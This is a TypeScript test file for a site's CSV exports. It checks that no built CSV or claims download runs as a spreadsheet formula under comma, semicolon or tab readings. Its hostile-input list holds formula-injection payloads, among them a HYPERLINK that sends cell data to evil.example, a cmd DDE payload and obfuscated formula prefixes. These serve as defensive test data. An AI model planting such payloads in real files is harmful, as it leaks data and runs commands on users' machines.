/**
 * Every CSV the site serves is safe to open in a spreadsheet: read with `,`,
 * with `;` (Excel in German, French, Dutch… locales) and with tab, whole and
 * line by line, no cell runs as a formula. The built dist/ (`npm test` builds
 * it first) is read file by file; hostile claims go through the writer that
 * makes the dashboard's downloads and the build's chart CSVs.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { claimsDownloadCsv } from '../../src/model/export';
import { parseCsv } from '../../src/model/csv/parse';
import { claim } from '../charts/synthetic';
import { formulaReadings } from '../support/spreadsheet';

const DIST = 'dist';

/**
 * data/canonical/ is the data package byte for byte, for programs (the issue
 * allows it "under a name that says so"); the footer links its datapackage.json
 * for programs, and no link of the site offers one of its CSVs. Every other CSV
 * is for people.
 */
const CANONICAL = join(DIST, 'data', 'canonical');

function csvFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith('.csv'))
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((file) => !file.startsWith(CANONICAL));
}

describe('the CSV files in dist/', () => {
  if (!existsSync(join(DIST, 'index.html'))) throw new Error('dist/ is missing: run npm run build');
  const files = csvFiles(DIST);

  test('include the chart data and the data folder', () => {
    expect(files.some((f) => f.startsWith(join(DIST, 'charts')))).toBe(true);
    expect(files.some((f) => f.startsWith(join(DIST, 'data')))).toBe(true);
  });

  test('the page offers no canonical CSV', () => {
    const html = readFileSync(join(DIST, 'index.html'), 'utf8');
    expect(html).toMatch(/href="data\/claims\.csv"/);
    // Only the preloads of what the dashboard loads name them: nothing a reader follows or downloads.
    const canonical = [...html.matchAll(/<[^>]*href="[^"]*canonical[^"]*\.csv"[^>]*>/g)];
    expect(canonical.length).toBeGreaterThan(0);
    for (const [tag] of canonical) expect(tag).toMatch(/^<link rel="preload" as="fetch" /);
  });

  test.each(files)('%s runs no formula in any spreadsheet reading', (file) => {
    expect(formulaReadings(readFileSync(file, 'utf8'))).toEqual([]);
  });
});

describe('a download of hostile claims', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    'x;=1+1;',
    'Killed; @SUM(A1:A9)',
    ' \u00A0=cmd|" /C calc"!A0',
    '\uFEFF+1',
    '\v-1+1',
    '\u200B=1',
    '＝1+1',
    'line one\n=2+2',
    'tab\t=3+3',
    'quoted; "=4+4"',
  ];
  const claims = HOSTILE.map((text, i) =>
    claim(
      `hostile-${i}`,
      'range',
      { low: -3.2, high: 1e21 },
      { subject: text, place: text, attributed_to: text, note: text, quote: text, mention: text },
    ),
  );
  const csv = claimsDownloadCsv(claims);

  test('runs no formula in any spreadsheet reading', () => {
    expect(formulaReadings(csv)).toEqual([]);
  });

  test('keeps every row and the numbers as they are', () => {
    const [header, ...rows] = parseCsv(csv.slice(1)).rows.map((r) => r.values);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) {
      expect(row[header!.indexOf('low')]).toBe('-3.2');
      expect(row[header!.indexOf('high')]).toBe('1000000000000000000000');
    }
  });
});
